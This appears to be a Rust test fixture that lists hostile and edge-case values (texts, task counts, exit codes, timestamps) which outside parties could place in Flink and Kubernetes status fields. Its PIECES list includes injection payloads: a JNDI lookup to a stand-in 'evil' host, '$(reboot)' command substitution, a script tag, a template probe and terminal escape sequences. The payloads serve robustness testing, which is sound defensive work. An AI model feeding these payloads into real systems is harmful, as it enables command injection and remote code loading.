//! What an outside party may write: texts and numbers that a Flink, an API server, an operator or the owner of a job can put where
//! the engine reads one. They change nothing of what is so, except for a row that nobody can read.

use std::ops::RangeInclusive;

/// A text: some letters, then a piece as often as told. It is told by numbers, so that a smaller one is found.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Text {
    /// So many letters stand in front.
    pub letters: u16,
    pub piece: &'static str,
    pub times: u16,
}

impl Text {
    /// As somebody writes it.
    pub fn written(self) -> String {
        "x".repeat(self.letters.into()) + &self.piece.repeat(self.times.into())
    }
}

/// Somebody writes something odd about a target.
#[derive(Clone, Copy, Debug)]
pub enum Hostile {
    /// A Kubernetes event with that reason and that message.
    Event(Text, Text),
    /// `status.reason` of its JobManager's pod.
    Pod(Text),
    /// Why that pod's container ended before, and with which exit code.
    Ended(Text, i32),
    /// How often it began again. More than an `int32` holds makes a pod that cannot be read.
    Restarts(u32),
    /// A TaskManager's pod waits, for that reason and with that message.
    TaskManager(Text, Text),
    /// What the operator could not do.
    Error(Text),
    /// `status.lifecycleState` and `status.jobManagerDeploymentStatus`.
    Standing(Text, Text),
    /// What another Flink that answers in its place calls its cluster.
    AnotherId(Text),
    /// What an archive or a HistoryServer will tell: the cause, and when it ended.
    Archived(Text, i64),
    /// Something in the row of one of its jobs, counted round.
    Row(u8, Odd),
}

/// Something odd in the row of a job, or in what is answered about it.
#[derive(Clone, Copy, Debug)]
pub enum Odd {
    Name(Text),
    Exception(Text),
    /// How many tasks run, how many are created, and how many there are, which need not be their sum.
    Tasks {
        running: u32,
        created: u32,
        total: u32,
    },
    /// So many tasks that their sum is no `int` any more: nobody can read such a row.
    TooManyTasks,
    /// Completed and failed checkpoints, and completed savepoints.
    Checkpoints {
        completed: u32,
        failed: u32,
        savepoints: u32,
    },
    /// `start-time`. One that no calendar has makes a row that nobody can read.
    Start(i64),
    /// `end-time`.
    End(i64),
    /// A state that is none: nobody can read such a row.
    State(Text),
}

/// Pieces of texts: harmless ones, characters of two to eighteen bytes, what a terminal obeys or shows otherwise than it is,
/// and what other formats take for their own.
pub const PIECES: &[&str] = &[
    "no space left on device ",
    "ß",
    "漢",
    "𝄞",
    "👩\u{200d}👩\u{200d}👧",
    "e\u{301}",
    "\u{1b}[31mred\u{1b}[2J",
    "\u{1b}]0;title\u{7}",
    "\u{9b}2J",
    "\0",
    "\r\n",
    "\n",
    "\t",
    "\u{b}\u{c}\u{7f}\u{85}",
    "\u{2028}\u{2029}",
    "\u{202e}txt.exe\u{202c}",
    "\u{2066}\u{61c}\u{200f}",
    "\u{200b}\u{200c}\u{2060}",
    "\u{feff}",
    "\u{e0041}",
    "\"",
    "'",
    "\\",
    "\\u{1b}",
    "\"\"\"",
    "'''\n",
    "{\"jobs\":[{\"jid\":\"",
    "]}",
    "null",
    "\n[[step]]\nat = \"0s\"\n",
    " # = , }",
    "<script>alert(1)</script>",
    "&lt;/",
    "%s%n%00%1b",
    "{}",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "$(reboot) `id`; ",
    "https://user:hunter2@flink.example:8081/jobs?token=hunter2 ",
    "\n\tat a.b.C.d(C.java:1)\nCaused by: java.lang.OutOfMemoryError: Metaspace\n",
    "Job 00000000000000000000000000000001 reached terminal state FAILED.\n",
    "…",
];

/// Counts at the edges of their types.
pub const COUNTS: &[u32] = &[0, 1, 2, 1 << 16, i32::MAX as u32, i32::MAX as u32 + 1, u32::MAX];
pub const EXIT_CODES: &[i32] = &[0, 1, -1, 137, 255, i32::MAX, i32::MIN];
/// Milliseconds since the Unix epoch: the edges of types and of the calendar, seconds and microseconds taken for milliseconds.
pub const TIMES: &[i64] = &[
    0,
    1,
    -1,
    i32::MAX as i64,
    i32::MIN as i64,
    u32::MAX as i64,
    1_767_225_600,
    1_767_225_600_000_000,
    4_102_444_800_000,
    LAST,
    LAST + 1,
    253_402_300_800_000,
    -377_705_023_201_001,
    i64::MAX,
    i64::MIN,
];
/// From what RFC 3339 can write in every time zone to the last moment that the engine can go on from.
pub const CALENDAR: RangeInclusive<i64> = -377_705_023_201_000..=LAST;
const LAST: i64 = 9_214_646_399_999;
